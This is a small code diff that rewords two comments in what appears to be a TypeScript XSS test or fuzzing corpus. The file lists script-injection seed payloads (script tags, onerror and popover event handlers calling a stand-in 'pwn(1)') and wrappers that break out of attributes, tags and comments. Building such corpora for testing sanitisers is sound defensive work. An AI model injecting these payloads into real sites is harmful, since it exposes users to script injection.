@@ -1,6 +1,6 @@
 const call = 'pwn(1)';
 
-/** Ways to have `pwn` called by a page that takes a text for more than text. */
+/** Texts that call `pwn` in a page that does not treat them as plain text. */
 const seeds: readonly string[] = [
   `<script>${call}</script>`,
   `<img src=x onerror=${call}>`,
@@ -44,7 +44,7 @@ const seeds: readonly string[] = [
   `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>`,
 ];
 
-/** What stands around a seed: the ends of attributes, tags and comments that it might have to leave first. */
+/** Wraps a seed to break out of attributes, tags and comments. */
 const frames: readonly ((seed: string) => string)[] = [
   (seed) => seed,
   (seed) => `">${seed}`,
